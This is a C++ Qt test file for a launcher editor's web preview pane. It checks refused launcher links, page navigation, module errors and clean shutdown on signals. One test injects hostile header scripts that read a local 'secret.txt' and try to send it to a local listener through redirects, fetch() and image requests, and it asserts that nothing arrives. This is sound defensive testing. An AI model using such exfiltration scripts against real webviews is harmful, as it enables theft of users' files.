#include "ScriptedPrompter.h"
#include "Widgets.h"
#include "app/MainWindow.h"
#include "components/FileLock.h"
#include "generator/PreviewFile.h"
#include "widgets/BrowserEngine.h"
#include "widgets/EndSignals.h"

#include <QApplication>
#include <QLabel>
#include <QPlainTextEdit>
#include <QSettings>
#include <QSignalSpy>
#include <QTabWidget>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QtTest>
#include <csignal>
#include <cstdio>

using namespace ulvanta;

// Like the editor, this program does not link the browser engine: the preview
// module brings it, and the browser is reached through its meta-object.
namespace {

QUrl shownUrl(QWidget* browser) {
    return browser->property("url").toUrl();
}

// Shows the Preview tab with the module taken from programFolder (the programs'
// folder when empty); the browser once the preview has loaded, or nullptr.
QWidget* showPreview(MainWindow& w, QString programFolder = {}) {
    if (programFolder.isEmpty())
        programFolder = qEnvironmentVariable("ULVANTA_BIN");
    w.setProgramFolder(programFolder + QLatin1Char('/'));
    child<QTabWidget>(&w, "tabs")->setCurrentIndex(3);
    auto* browser = w.findChild<QWidget*>("preview");
    if (!browser)
        return nullptr;
    QSignalSpy loaded(browser, SIGNAL(loadFinished(bool)));
    if (!loaded.wait(20000) || shownUrl(browser).fileName() != "PME.htm")
        return nullptr;
    return browser;
}

// The editor as the program runs it, on a changed document held open, ending
// on a signal once the preview is shown; the test drives it from outside.
int runEditorUntilSignalled(const QString& document) {
    MainWindow w;
    EndSignals endSignals;
    QObject::connect(&endSignals, &EndSignals::endRequested, &w, &MainWindow::endOnSignal);
    w.start(document);
    w.doc().edits().markModified();
    if (!showPreview(w) || !w.doc().fileLock().isHeld())
        return 3;
    std::puts("shown");
    std::fflush(stdout);
    return QApplication::exec();
}

} // namespace

// The preview in a real browser engine: the launcher's links stay inert, other
// pages load, leaving the tab blanks the view.
class TestPreviewWeb : public QObject {
    Q_OBJECT
private slots:
    void initTestCase();
    // Each window starts on the Icons tab, whichever tab the one before was left on.
    void init() { QSettings().remove("MainWindow/tab"); }
    void launcherLinksAreRefused_data();
    void launcherLinksAreRefused();
    void hostileHeaderSendsNothing_data();
    void hostileHeaderSendsNothing();
    void otherPageLoadsAndLeavingBlanks();
    void missingModuleIsReportedInTheTab();
    void signalEndsEditorWithoutAsking_data();
    void signalEndsEditorWithoutAsking();

private:
    QTemporaryDir dir;
    test::ScriptedPrompter prompter;
    QTcpServer server; // where a hostile page would send what it read
    QByteArray received;
};

void TestPreviewWeb::initTestCase() {
    QVERIFY(dir.isValid());
    qputenv("TEMP", dir.path().toLocal8Bit());
    QFile other(dir.filePath("other.htm"));
    QVERIFY(other.open(QIODevice::WriteOnly));
    other.write("<html><body>other</body></html>");
    QFile secret(dir.filePath("secret.txt"));
    QVERIFY(secret.open(QIODevice::WriteOnly) && secret.write("top secret") > 0);
    QVERIFY(server.listen(QHostAddress::LocalHost));
    connect(&server, &QTcpServer::newConnection, this, [this] {
        while (QTcpSocket* s = server.nextPendingConnection())
            connect(s, &QTcpSocket::readyRead, s, [s, this] { received += s->readAll(); });
    });
}

void TestPreviewWeb::launcherLinksAreRefused_data() {
    QTest::addColumn<QString>("href");
    QTest::newRow("icon link") << "pm:/bin/true,,,hidden";
    QTest::newRow("window command") << "pmc:exit";
}

// The page itself goes to the link once loaded, as a click would.
void TestPreviewWeb::launcherLinksAreRefused() {
    QFETCH(QString, href);
    MainWindow w(&prompter);
    w.start({});
    w.doc().setSetting(Setting::HeaderHtml,
                       "<script>setTimeout(() => location.href = '" + href + "', 300)</script>");
    w.doc().items().appendItems({{"Tea, coffee", "/bin/true", {}, {}, {}, {}, {}}});
    QWidget* browser = showPreview(w);
    QVERIFY(browser);
    QObject* page = nullptr;
    for (QObject* o : browser->findChildren<QObject*>())
        if (o->metaObject()->indexOfSignal("launcherLinkRefused(QUrl)") >= 0)
            page = o;
    QVERIFY(page);
    QSignalSpy refused(page, SIGNAL(launcherLinkRefused(QUrl)));
    QVERIFY(refused.wait(10000));
    QCOMPARE(refused.first().first().toUrl().toString(), href);
    QTest::qWait(300);
    QCOMPARE(shownUrl(browser).fileName(), "PME.htm");
    // The icon is read with the comma it shows.
    QAccessible::setActive(true); // as when a screen reader listens
    QTRY_VERIFY(
        accessibleLinks(QAccessible::queryAccessibleInterface(browser)).contains("Tea, coffee"));
    QAccessible::setActive(false);
}

void TestPreviewWeb::hostileHeaderSendsNothing_data() {
    QTest::addColumn<QString>("script"); // in a page that defines read() and L
    QTest::addColumn<QPoint>("click");   // where the user clicks; the link "Out" is at 30, 30
    QTest::newRow("read on load, sent to a &comma; address")
        << "addEventListener('load', () => location = L + read())" << QPoint();
    QTest::newRow("read on load, sent by requests")
        << "addEventListener('load', () => { fetch(L + read(), {mode: 'no-cors'}); new "
           "Image().src = L + read(); })"
        << QPoint();
    QTest::newRow("read on a click elsewhere")
        << "addEventListener('mousedown', () => location = L + read())" << QPoint(300, 100);
    QTest::newRow("user's click on a link goes out") << "" << QPoint(30, 30);
}

void TestPreviewWeb::hostileHeaderSendsNothing() {
    QFETCH(QString, script);
    QFETCH(QPoint, click);
    received.clear();
    const QString address = QStringLiteral("http://127.0.0.1:%1/leak").arg(server.serverPort());
    MainWindow w(&prompter);
    w.start({});
    w.doc().setSetting(Setting::HeaderHtml,
                       "<a href=\"" + address +
                           "?out\" style=\"position: fixed; left: 0; top: 0; "
                           "width: 60px; height: 60px\">Out</a><script>const L = '" +
                           address +
                           "&comma;?d='; function read() { const x = new "
                           "XMLHttpRequest(); x.open('GET', 'secret.txt', false); "
                           "try { x.send() } catch (e) {} return x.responseText; } " +
                           script + "</script>");
    w.show();
    QVERIFY(QTest::qWaitForWindowExposed(&w));
    QWidget* browser = showPreview(w);
    QVERIFY(browser && browser->focusProxy());
    QTest::qWait(500); // the view takes input a moment after the page has loaded
    if (!click.isNull())
        QTest::mouseClick(browser->focusProxy(), Qt::LeftButton, {}, click);
    if (click == QPoint(30, 30)) {
        QTRY_VERIFY_WITH_TIMEOUT(received.startsWith("GET /leak?out "), 10000);
        return;
    }
    QTest::qWait(3000);
    QVERIFY2(received.isEmpty(), received.constData());
}

void TestPreviewWeb::otherPageLoadsAndLeavingBlanks() {
    MainWindow w(&prompter);
    w.start({});
    const QUrl other = QUrl::fromLocalFile(dir.filePath("other.htm"));
    w.doc().setSetting(Setting::HeaderHtml, "<script>setTimeout(() => location.href = '" +
                                                other.toString() + "', 300)</script>");
    QWidget* browser = showPreview(w);
    QVERIFY(browser);
    // The browser sits above the status label.
    auto* status = child<QLabel>(&w, "previewStatus");
    QVERIFY(browser->geometry().bottom() <= status->geometry().top());
    QVERIFY(browser->height() > status->height());
    QTRY_COMPARE_WITH_TIMEOUT(shownUrl(browser), other, 10000);
    child<QTabWidget>(&w, "tabs")->setCurrentIndex(2);
    QCOMPARE(shownUrl(browser), QUrl("about:blank"));
    QVERIFY(child<QPlainTextEdit>(&w, "htmlView")->toPlainText().contains("other.htm"));
}

void TestPreviewWeb::missingModuleIsReportedInTheTab() {
    MainWindow w(&prompter);
    w.start({});
    QVERIFY(!showPreview(w, dir.path()));
    QVERIFY(child<QLabel>(&w, "previewStatus")
                ->text()
                .startsWith("The preview cannot be shown: its module did not load ("));
}

void TestPreviewWeb::signalEndsEditorWithoutAsking_data() {
    QTest::addColumn<int>("signalNumber");
    QTest::newRow("SIGTERM") << SIGTERM;
    QTest::newRow("SIGINT") << SIGINT;
    QTest::newRow("SIGHUP") << SIGHUP;
}

// A signal ends the editor through its clean path once the browser engine runs:
// the preview file goes, the document is released, nothing is asked.
void TestPreviewWeb::signalEndsEditorWithoutAsking() {
    QFETCH(int, signalNumber);
    const QString document = dir.filePath("held.pmf");
    MainWindow saver(&prompter);
    saver.start({});
    saver.doc().save(document);
    saver.doc().fileLock().release();
    QVERIFY(QFile::exists(document));
    QProcess editor;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert("EDITOR_UNTIL_SIGNALLED", document);
    QTemporaryDir runtime;
    env.insert("XDG_RUNTIME_DIR", runtime.path());
    editor.setProcessEnvironment(env);
    editor.start(QCoreApplication::applicationFilePath());
    QVERIFY(editor.waitForReadyRead(60000));
    QCOMPARE(editor.readAllStandardOutput(), QByteArray("shown\n"));
    QCOMPARE(QDir(runtime.path()).entryList(QDir::Dirs | QDir::NoDotAndDotDot).size(), 1);
    QVERIFY(FileLock::isLockedElsewhere(document));
    ::kill(editor.processId(), signalNumber);
    QVERIFY(editor.waitForFinished(5000));
    QCOMPARE(editor.exitStatus(), QProcess::NormalExit);
    QCOMPARE(editor.exitCode(), 0);
    QVERIFY(QDir(runtime.path()).isEmpty()); // the editor's folder went with its file
    QVERIFY(!FileLock::isLockedElsewhere(document));
}

int main(int argc, char* argv[]) {
    prepareBrowserEngine();
    QApplication app(argc, argv);
    if (qEnvironmentVariableIsSet("EDITOR_UNTIL_SIGNALLED"))
        return runEditorUntilSignalled(qEnvironmentVariable("EDITOR_UNTIL_SIGNALLED"));
    TestPreviewWeb t;
    return QTest::qExec(&t, argc, argv);
}

#include "tst_preview_web.moc"
